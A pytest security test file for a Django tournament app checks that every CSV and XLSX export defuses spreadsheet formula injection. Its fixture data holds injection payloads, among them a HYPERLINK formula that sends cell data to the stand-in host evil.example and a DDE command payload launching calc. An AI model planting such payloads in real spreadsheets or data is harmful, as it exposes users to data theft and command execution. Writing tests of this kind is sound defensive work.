"""No formula injection in any export (issue 13 item 9, issue 17): a name that a spreadsheet would run as a
formula is exported as text in every CSV (both dialects) and every XLSX — standings, crosstable, each round's
pairings, every round's pairings, the participants' list, the whole tournament's workbook, and the pages' old
``?_export=`` links."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from draw import manager as draw_manager
from draw.models import Round
from public.exports import neutralise
from registration.models import Person
from tests.factories import make_tournament

pytestmark = pytest.mark.security

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"жми")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def evil_tournament(secretary):
    t = make_tournament(secretary, players=len(EVIL), system="round_robin", name="=1+1 кубок")
    for person, surname in zip(Person.objects.filter(participations__tournament=t), EVIL, strict=True):
        person.surname = surname
        person.organisation = "=cmd()"
        person.region = "\r=2"
        person.save()
    rnd = draw_manager.draw_round(t, secretary, expected_number=1, seed=1)
    Round.objects.filter(pk=rnd.pk).update(
        status=Round.Status.PUBLISHED
    )  # a crosstable shows published rounds
    return t


def _csv_cells(content: bytes, delimiter: str) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _xlsx_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _exports(t) -> list[tuple[str, str]]:
    """(url, format) of every export of the tournament."""
    r = lambda name, *args: reverse(f"public:{name}", args=[t.pk, *args])  # noqa: E731
    out = []
    for name, args in [
        ("export_standings", ()),
        ("export_crosstable", ()),
        ("export_participants", ()),
        ("export_pairings", ()),
        ("export_round", (1,)),
    ]:
        out += [(r(name, *args, "csv"), "csv"), (r(name, *args, "xlsx"), "xlsx")]
    out.append((r("export_tournament"), "xlsx"))
    for page in ("standings", "crosstable"):
        out += [(r(page) + "?_export=csv", "csv"), (r(page) + "?_export=xlsx", "xlsx")]
    return out


def test_no_cell_of_any_export_is_a_formula(client, evil_tournament):
    for url, fmt in _exports(evil_tournament):
        if fmt == "csv":
            for dialect, delimiter in (("ru", ";"), ("intl", ",")):
                response = client.get(url + ("&" if "?" in url else "?") + f"dialect={dialect}")
                assert response.status_code == 200, url
                cells = _csv_cells(response.content, delimiter)
                assert cells, url
                assert not [c for c in cells if c[:1] in STARTS], (url, dialect)
                assert any(c.startswith("'=HYPERLINK") for c in cells), url
            continue
        response = client.get(url)
        assert response.status_code == 200, url
        xlsx = _xlsx_cells(response.content)
        assert not [c.value for c in xlsx if c.data_type == "f"], url
        texts = [c.value for c in xlsx if isinstance(c.value, str)]
        assert not [v for v in texts if v[:1] in STARTS], url
        assert any(v.startswith("'=HYPERLINK") for v in texts), url


def test_numbers_stay_numbers_and_plain_text_stays_as_typed():
    assert neutralise(-1.5) == -1.5 and neutralise(3) == 3
    assert neutralise("Алиев") == "Алиев" and neutralise("5–8") == "5–8"
    assert neutralise("=1+1") == "'=1+1" and neutralise("\r=1") == "'\r=1"
